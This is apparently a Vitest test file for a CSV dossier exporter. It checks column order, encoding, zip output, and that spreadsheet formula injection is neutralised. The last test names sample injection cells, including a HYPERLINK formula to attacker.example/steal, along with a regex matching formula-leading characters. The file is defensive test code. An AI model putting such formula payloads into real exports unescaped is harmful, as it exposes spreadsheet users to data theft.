import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../../src/cli/runCli';
import type { Dossier } from '../../../src/shared/dossier';
import { buildDossierCase } from './buildDossierCase';

// The documented column order (README, "CSV columns"); a change here is a change of contract.
const columns = {
  'claims.csv': ['claim', 'claim_id', 'kind', 'text', 'speaker', 'value', 'status', 'supporting_sources', 'contradicting_sources', 'independent_origins', 'proposed_credibility', 'analyst_credibility', 'confidence', 'credibility_reason', 'is_flagged', 'tags', 'note', 'supporting_source_ids', 'contradicting_source_ids'],
  'mentions.csv': ['claim', 'claim_id', 'source_id', 'source_sha256', 'stance', 'start', 'end', 'text', 'reason'],
  'sources.csv': ['source_id', 'title', 'outlet', 'byline', 'published_at', 'kind', 'language', 'file_name', 'sha256', 'imported_at', 'words', 'sentences', 'reliability_grade', 'origin_group'],
  'annotations.csv': ['annotation_id', 'source_id', 'source_sha256', 'start', 'end', 'quote', 'note', 'tags', 'claim', 'claim_id', 'is_orphaned', 'created_at', 'updated_at'],
} as const;
type FileName = keyof typeof columns;

// Written here independently of the exporter: what a spreadsheet would treat as a formula.
const formulaStart = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/u;
const expected = (cell: string) => (formulaStart.test(cell) ? `'${cell}` : cell);

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, relax_column_count: false, skip_empty_lines: false }) as Record<string, string>[];
}

describe('the CSV dossier', () => {
  let folder: string;
  let dossier: Dossier;
  const files = new Map<FileName, string>();

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'triangulate-dossier-csv-'));
    const { casePath, workbench } = await buildDossierCase(folder);
    dossier = workbench.dossier({});
    workbench.close();
    for (const out of [join(folder, 'csv'), join(folder, 'dossier.zip')]) {
      let stderr = '';
      const code = await runCli(['export', '--case', casePath, '--format', 'csv', '--out', out], { out: () => undefined, err: (text) => (stderr += text) });
      expect(code, stderr).toBe(0);
    }
    for (const name of Object.keys(columns) as FileName[]) files.set(name, readFileSync(join(folder, 'csv', name), 'utf8'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('writes one header row in the documented order, CRLF line ends, UTF-8 with a byte order mark', () => {
    for (const [name, text] of files) {
      expect(text.startsWith('\uFEFF'), name).toBe(true);
      const header = parse(text, { bom: true, to_line: 1 }) as string[][];
      expect(header[0], name).toEqual([...columns[name]]);
      expect(text.replace(/"[^"]*"/g, '').includes('\n') && !/[^\r]\n/.test(text.replace(/"[^"]*"/g, '')), name).toBe(true);
    }
  });

  it('parses back to exactly what the dossier holds, hostile cells neutralised', () => {
    const claims = parseCsv(files.get('claims.csv') ?? '');
    expect(claims.map((row) => [row.claim, row.claim_id, row.text, row.note, row.tags, row.status])).toEqual(
      dossier.claims.map((claim) => [claim.label, claim.id, expected(claim.text), expected(claim.judgement.note), expected(claim.judgement.tags.join('; ')), claim.status]),
    );
    const mentions = parseCsv(files.get('mentions.csv') ?? '');
    expect(mentions.map((row) => [row.claim_id, Number(row.source_id), row.stance, Number(row.start), Number(row.end), row.text, row.reason])).toEqual(
      dossier.claims.flatMap((claim) => claim.mentions.map((mention) => [claim.id, mention.source, mention.stance, mention.start, mention.end, expected(mention.text), expected(mention.reason ?? '')])),
    );
    const sources = parseCsv(files.get('sources.csv') ?? '');
    expect(sources.map((row) => [Number(row.source_id), row.title, row.sha256, row.file_name, row.reliability_grade])).toEqual(
      dossier.sources.map((source) => [source.id, expected(source.title), source.sha256, expected(source.fileName), source.grade ?? '']),
    );
    const annotations = parseCsv(files.get('annotations.csv') ?? '');
    expect(annotations.map((row) => [Number(row.annotation_id), row.quote, row.note, row.tags, row.claim])).toEqual(
      dossier.annotations.map((annotation) => [annotation.id, expected(annotation.quote), expected(annotation.note), expected(annotation.tags.join('; ')), annotation.claimLabel ?? '']),
    );
  });

  it('leaves no cell a spreadsheet would run, and the hostile article reached every file', () => {
    const neutralised = new Map<FileName, number>();
    for (const [name, text] of files) {
      const rows = parse(text, { bom: true }) as string[][];
      for (const cell of rows.flat()) {
        expect(formulaStart.test(cell), `${name}: ${cell}`).toBe(false);
        if (/^'[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell)) neutralised.set(name, (neutralised.get(name) ?? 0) + 1);
      }
    }
    expect(neutralised.get('claims.csv') ?? 0).toBeGreaterThanOrEqual(4);
    expect(neutralised.get('mentions.csv') ?? 0).toBeGreaterThanOrEqual(1);
    expect(neutralised.get('sources.csv') ?? 0).toBeGreaterThanOrEqual(1);
    expect(neutralised.get('annotations.csv') ?? 0).toBeGreaterThanOrEqual(2);
    const cells = [...files.values()].flatMap((text) => (parse(text, { bom: true }) as string[][]).flat());
    for (const attack of ['\'=HYPERLINK("http://attacker.example/steal","Click for details")', "'-5 degrees", "'@SUM(1,2)", "'＝cmd", "'＋44 jobs", "'=1+2 is what we were told"]) {
      expect(cells.some((cell) => cell.startsWith(attack)), attack).toBe(true);
    }
  });

  it('writes the same four files into a zip when --out ends in .zip', () => {
    const entries = unzipSync(new Uint8Array(readFileSync(join(folder, 'dossier.zip'))));
    expect(Object.keys(entries).sort()).toEqual(Object.keys(columns).sort());
    for (const name of files.keys()) expect(Buffer.from(entries[name] ?? new Uint8Array()).equals(readFileSync(join(folder, 'csv', name))), name).toBe(true);
  });
});
